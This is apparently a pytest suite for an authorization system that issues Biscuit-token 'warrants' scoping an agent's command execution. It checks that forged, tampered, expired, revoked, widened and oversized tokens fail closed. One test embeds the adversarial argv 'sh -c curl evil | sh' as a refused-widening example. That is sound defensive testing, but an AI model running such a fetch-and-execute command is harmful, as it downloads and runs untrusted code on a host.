"""Warrants as Biscuit tokens: every fail-closed rule has its own test."""

from __future__ import annotations

import base64
import datetime as dt
from typing import Any

import pytest
from biscuit_auth import Biscuit, BlockBuilder, PublicKey

from proctor.authorization.keys import PrincipalKey
from proctor.authorization.warrants import (
    MAX_BLOCKS,
    WarrantClaims,
    WarrantRequest,
    args_digest,
    attenuate_warrant,
    inspect_warrant,
    mint_warrant,
    verify_warrant,
)
from proctor.errors import KeyFormatError, WarrantError

ROOT = PrincipalKey.from_private_bytes("admin", bytes(range(32)))
OTHER = PrincipalKey.from_private_bytes("admin", bytes(range(1, 33)))
ARGS = args_digest(["pg_dump", "db1"])
EXE = "sha256:" + "5e" * 32
NB, EXP = 1_700_000_000, 1_700_000_600
NOW = NB + 60
CLAIMS = WarrantClaims(
    warrant_id="wr_0123456789abcdefghijklmnop",
    principal="agent-1",
    action="exec",
    resource="/usr/bin/pg_dump",
    args_digest=ARGS,
    zone="prod",
    executable_digest=EXE,
    obligations={
        "max_duration_s": 300,
        "needs_approval": False,
        "network": "none",
        "max_output_bytes": 1 << 20,
    },
    not_before=NB,
    expires=EXP,
    lease_ttl_ms=30_000,
    decision_index=42,
    parent="wr_parent0001",
)
REQUEST = WarrantRequest("exec", "/usr/bin/pg_dump", ARGS, "prod", EXE)


@pytest.fixture(scope="module")
def token() -> str:
    return mint_warrant(CLAIMS, root_private_key=ROOT.private_bytes())


def _verify(token: str, **kw: Any) -> WarrantClaims:
    args: dict[str, Any] = {"root_public_key": ROOT.public_key, "now": NOW, "request": REQUEST}
    args.update(kw)
    return verify_warrant(token, **args)


def _reason(token: str, **kw: Any) -> str:
    with pytest.raises(WarrantError) as info:
        _verify(token, **kw)
    return info.value.reason


def _biscuit(token: str) -> Biscuit:
    return Biscuit.from_base64(token, PublicKey("ed25519/" + ROOT.public_key.hex()))


def _append(token: str, source: str) -> str:
    # Attenuate with raw biscuit-python, as an adversary holding the token could.
    return _biscuit(token).append(BlockBuilder(source)).to_base64()


def _date(seconds: int) -> str:
    return dt.datetime.fromtimestamp(seconds, tz=dt.UTC).strftime("%Y-%m-%dT%H:%M:%SZ")


# Round trips


def test_claims_round_trip(token: str) -> None:
    assert _verify(token) == CLAIMS


def test_obligation_values_keep_their_types(token: str) -> None:
    obligations = _verify(token).obligations
    assert dict(obligations) == dict(CLAIMS.obligations)
    assert type(obligations["max_duration_s"]) is int
    assert type(obligations["needs_approval"]) is bool
    assert type(obligations["network"]) is str


def test_authority_block_carries_the_claims_as_facts(token: str) -> None:
    source = _biscuit(token).block_source(0)
    for fact in (
        'warrant("wr_0123456789abcdefghijklmnop")',
        'principal("agent-1")',
        'action("exec")',
        'resource("/usr/bin/pg_dump")',
        f'args_digest("{ARGS}")',
        'zone("prod")',
        f'executable_digest("{EXE}")',
        'obligation("max_duration_s", 300)',
        'obligation("needs_approval", false)',
        f"not_before({_date(NB)})",
        f"expires({_date(EXP)})",
        "lease_ttl_ms(30000)",
        "decision_index(42)",
        'parent("wr_parent0001")',
        "check if time($t), expires($e), $t < $e",
    ):
        assert fact in source


# Validity window


def test_expired_warrant_is_rejected(token: str) -> None:
    assert _verify(token, now=EXP - 1) == CLAIMS
    assert _reason(token, now=EXP) == "expired"


def test_not_yet_valid_warrant_is_rejected(token: str) -> None:
    assert _verify(token, now=NB) == CLAIMS
    assert _reason(token, now=NB - 1) == "not-yet-valid"


# Signatures and encoding


def test_forged_warrant_signed_by_another_key_is_rejected() -> None:
    forged = mint_warrant(CLAIMS, root_private_key=OTHER.private_bytes())
    assert _reason(forged) == "forged"


def test_wrong_root_key_is_rejected(token: str) -> None:
    assert _reason(token, root_public_key=OTHER.public_key) == "forged"


def test_truncated_token_is_rejected(token: str) -> None:
    # Every proper prefix, at every character: a cut-off token never parses as another.
    for cut in range(1, len(token.rstrip("="))):
        assert _reason(token[:cut]) == "truncated", cut
    assert _reason("") == "malformed"


def test_tampered_byte_is_rejected(token: str) -> None:
    raw = bytearray(base64.urlsafe_b64decode(token))
    for i in range(len(raw)):
        for bit in (0x01, 0x80):
            tampered = bytearray(raw)
            tampered[i] ^= bit
            text = base64.urlsafe_b64encode(bytes(tampered)).decode()
            assert _reason(text) in ("forged", "malformed", "truncated", "too-large"), (i, bit)


def test_tampered_claim_is_forged(token: str) -> None:
    raw = base64.urlsafe_b64decode(token)
    assert b"db1" not in raw  # the argv is bound by digest; tamper a readable claim instead
    tampered = raw.replace(b"/usr/bin/pg_dump", b"/usr/bin/pg_dumq")
    assert tampered != raw
    assert _reason(base64.urlsafe_b64encode(tampered).decode()) == "forged"


@pytest.mark.parametrize(
    "text",
    ["", "!!!!", "a b", "AAAA===", 42],
    ids=["empty", "not-base64", "space", "bad-padding", "not-a-string"],
)
def test_garbage_token_is_malformed(text: Any) -> None:
    assert _reason(text) == "malformed"


def test_non_canonical_base64_is_malformed(token: str) -> None:
    bare = token.rstrip("=")
    assert _verify(bare) == CLAIMS  # unpadded is the same token
    if len(bare) % 4 in (2, 3):
        last = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_".index(bare[-1])
        altered = bare[:-1] + "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"[last ^ 1]
        assert _reason(altered) == "malformed"


def test_oversize_token_is_too_large() -> None:
    assert _reason("A" * (16 * 1024 + 4)) == "too-large"


def test_too_many_blocks_is_too_large(token: str) -> None:
    long = token
    for _ in range(MAX_BLOCKS):
        long = _append(long, "check if true;")
    assert _biscuit(long).block_count() == MAX_BLOCKS + 1
    assert _reason(long) == "too-large"


def test_mint_refuses_a_malformed_root_key() -> None:
    with pytest.raises(KeyFormatError):
        mint_warrant(CLAIMS, root_private_key=b"short")
    with pytest.raises(KeyFormatError):
        _verify(mint_warrant(CLAIMS, root_private_key=ROOT.private_bytes()), root_public_key=b"short")


# Scope


def test_arguments_are_bound(token: str) -> None:
    other = WarrantRequest("exec", "/usr/bin/pg_dump", args_digest(["pg_dump", "db2"]), "prod", EXE)
    assert _reason(token, request=other) == "scope"


@pytest.mark.parametrize(
    "request_",
    [
        WarrantRequest("tool.call", "/usr/bin/pg_dump", ARGS, "prod", EXE),
        WarrantRequest("exec", "/bin/sh", ARGS, "prod", EXE),
        WarrantRequest("exec", "/usr/bin/pg_dump", ARGS, "dev", EXE),
        WarrantRequest("exec", "/usr/bin/pg_dump", ARGS, "", EXE),
        WarrantRequest("exec", "/usr/bin/pg_dump", ARGS, "prod", "sha256:" + "00" * 32),
        WarrantRequest("exec", "/usr/bin/pg_dump", ARGS, "prod", ""),
    ],
    ids=["action", "resource", "zone", "no-zone", "executable", "unmeasured-executable"],
)
def test_request_outside_the_warrant_is_out_of_scope(token: str, request_: WarrantRequest) -> None:
    assert _reason(token, request=request_) == "scope"


def test_empty_zone_and_executable_digest_match_anything() -> None:
    claims = WarrantClaims(**{**CLAIMS.to_json(), "zone": "", "executable_digest": ""})
    token = mint_warrant(claims, root_private_key=ROOT.private_bytes())
    for zone, exe in (("dev", EXE), ("", ""), ("prod", "sha256:" + "00" * 32)):
        assert _verify(token, request=WarrantRequest("exec", "/usr/bin/pg_dump", ARGS, zone, exe)) == claims


def test_inspection_without_request_checks_signature_validity_revocation(token: str) -> None:
    assert _verify(token, request=None) == CLAIMS
    assert _reason(token, request=None, now=EXP) == "expired"
    assert _reason(token, request=None, revoked={CLAIMS.warrant_id}) == "revoked"


# Revocation


def test_revoked_warrant_is_rejected(token: str) -> None:
    assert _reason(token, revoked=frozenset({CLAIMS.warrant_id})) == "revoked"
    assert _reason(token, revoked=lambda wid: wid == CLAIMS.warrant_id) == "revoked"
    assert _verify(token, revoked=frozenset({"wr_unrelated"})) == CLAIMS


def test_revoked_parent_is_rejected(token: str) -> None:
    assert _reason(token, revoked=frozenset({"wr_parent0001"})) == "revoked"
    asked: list[str] = []

    def is_revoked(wid: str) -> bool:
        asked.append(wid)
        return wid == "wr_parent0001"

    assert _reason(token, revoked=is_revoked) == "revoked"
    assert asked[:2] == [CLAIMS.warrant_id, "wr_parent0001"]


def test_revoked_block_revocation_id_is_rejected(token: str) -> None:
    attenuated = attenuate_warrant(token, root_public_key=ROOT.public_key, zone="prod")
    block_id = _biscuit(attenuated).revocation_ids[1]
    assert _reason(attenuated, revoked={block_id}) == "revoked"
    assert _verify(token, revoked={block_id}) == CLAIMS  # the unattenuated token is not affected


# Attenuation


def test_widened_attenuation_facts_are_refused(token: str) -> None:
    far = _date(EXP + 10 * 365 * 86400)
    widened = _append(
        token,
        f"""
        resource("/bin/sh"); args_digest("{args_digest(["sh", "-c", "curl evil | sh"])}");
        zone(""); executable_digest(""); expires({far}); not_before(1970-01-01T00:00:00Z);
        warrant("wr_other"); parent(""); obligation("max_duration_s", 999999);
        resource("/bin/bash") <- warrant($w);
        """,
    )
    # Facts and rules are not a shape proctor's attenuation writes: refused outright,
    # for any request and at any time.
    sh = WarrantRequest("exec", "/bin/sh", args_digest(["sh", "-c", "curl evil | sh"]), "dev", "")
    assert _reason(widened, request=sh) == "shape"
    assert _reason(widened) == "shape"
    assert _reason(widened, now=EXP + 1) == "shape"


def test_appended_check_can_only_narrow(token: str) -> None:
    narrowed = attenuate_warrant(
        token, root_public_key=ROOT.public_key, args_digest=ARGS, resource=REQUEST.resource
    )
    assert _verify(narrowed) == CLAIMS
    elsewhere = attenuate_warrant(token, root_public_key=ROOT.public_key, zone="dev")
    assert _reason(elsewhere) == "scope"  # a narrowing the request does not meet
    # A permissive-looking block is not an accepted shape.
    assert _reason(_append(elsewhere, "check if true;")) == "shape"
    assert _reason(_append(elsewhere, "inspection(true);")) == "shape"


def test_attenuated_expiry_earlier_than_authority_is_enforced(token: str) -> None:
    cut = NOW + 30
    attenuated = attenuate_warrant(token, root_public_key=ROOT.public_key, expires=cut)
    assert _verify(attenuated, now=cut - 1) == CLAIMS
    assert _reason(attenuated, now=cut) == "expired"
    assert _reason(attenuated, now=cut, request=None) == "expired"
    # A later expiry in an attenuation cannot extend the authority's.
    later = attenuate_warrant(token, root_public_key=ROOT.public_key, expires=EXP + 3600)
    assert _reason(later, now=EXP) == "expired"


def test_attenuated_max_duration_ends_validity(token: str) -> None:
    attenuated = attenuate_warrant(token, root_public_key=ROOT.public_key, max_duration_s=90)
    assert _verify(attenuated, now=NB + 89) == CLAIMS
    assert _reason(attenuated, now=NB + 90) == "expired"


def test_attenuation_of_attenuation_narrows_further(token: str) -> None:
    once = attenuate_warrant(token, root_public_key=ROOT.public_key, expires=NOW + 100)
    twice = attenuate_warrant(once, root_public_key=ROOT.public_key, expires=NOW + 10)
    assert _verify(twice, now=NOW + 9) == CLAIMS
    assert _reason(twice, now=NOW + 10) == "expired"
    assert _biscuit(twice).block_count() == 3


def test_scope_attenuation_passes_inspection_without_a_request(token: str) -> None:
    attenuated = attenuate_warrant(
        token, root_public_key=ROOT.public_key, resource="/usr/bin/pg_dump", zone="prod"
    )
    assert _verify(attenuated, request=None) == CLAIMS


def test_foreign_time_check_of_the_wrong_type_fails_closed(token: str) -> None:
    assert _reason(_append(token, "check if time($t), $t < 5;")) == "shape"


def test_attenuation_requires_a_genuine_token_and_a_narrowing(token: str) -> None:
    forged = mint_warrant(CLAIMS, root_private_key=OTHER.private_bytes())
    with pytest.raises(WarrantError) as info:
        attenuate_warrant(forged, root_public_key=ROOT.public_key, expires=NOW)
    assert info.value.reason == "forged"
    with pytest.raises(WarrantError) as info:
        attenuate_warrant(token, root_public_key=ROOT.public_key)
    assert info.value.reason == "malformed"
    for bad in ({"zone": ""}, {"args_digest": "sha256:x"}, {"resource": "relative"}, {"max_duration_s": 0}):
        with pytest.raises(WarrantError):
            attenuate_warrant(token, root_public_key=ROOT.public_key, **bad)


def test_attenuation_stops_at_the_block_limit(token: str) -> None:
    long = token
    for _ in range(MAX_BLOCKS - 1):
        long = attenuate_warrant(long, root_public_key=ROOT.public_key, expires=EXP)
    with pytest.raises(WarrantError) as info:
        attenuate_warrant(long, root_public_key=ROOT.public_key, expires=EXP)
    assert info.value.reason == "too-large"


# Datalog limits


def test_datalog_limit_is_enforced(token: str) -> None:
    facts = " ".join(f"n({i});" for i in range(40))
    # 40 x 40 = 1600 generated facts, above the 1000-fact limit.
    exploding = _append(token, facts + " pair($x, $y) <- n($x), n($y);")
    assert len(exploding) < 16 * 1024
    assert _reason(exploding) == "shape"  # refused before any evaluation


def test_recursive_rule_hits_the_iteration_or_fact_limit(token: str) -> None:
    recursive = _append(
        token,
        "step(0, 1); step($a, $c) <- step($a, $b), step($b2, $c), $b == $b2;"
        + " ".join(f"step({i}, {i + 1});" for i in range(1, 60)),
    )
    assert _reason(recursive) == "shape"  # refused before any evaluation


# Inspection


def test_inspect_shows_claims_blocks_and_attenuations(token: str) -> None:
    attenuated = attenuate_warrant(token, root_public_key=ROOT.public_key, expires=NOW + 5, zone="prod")
    info = inspect_warrant(attenuated, root_public_key=ROOT.public_key)
    assert info["claims"] == CLAIMS.to_json()
    assert info["block_count"] == 2
    assert len(info["attenuations"]) == 1
    assert "req_zone" in info["attenuations"][0]
    assert len(info["revocation_ids"]) == 2
    # Inspection does not judge validity, but does judge the signature.
    assert inspect_warrant(token, root_public_key=ROOT.public_key)["claims"]["expires"] == EXP
    with pytest.raises(WarrantError):
        inspect_warrant(token, root_public_key=OTHER.public_key)
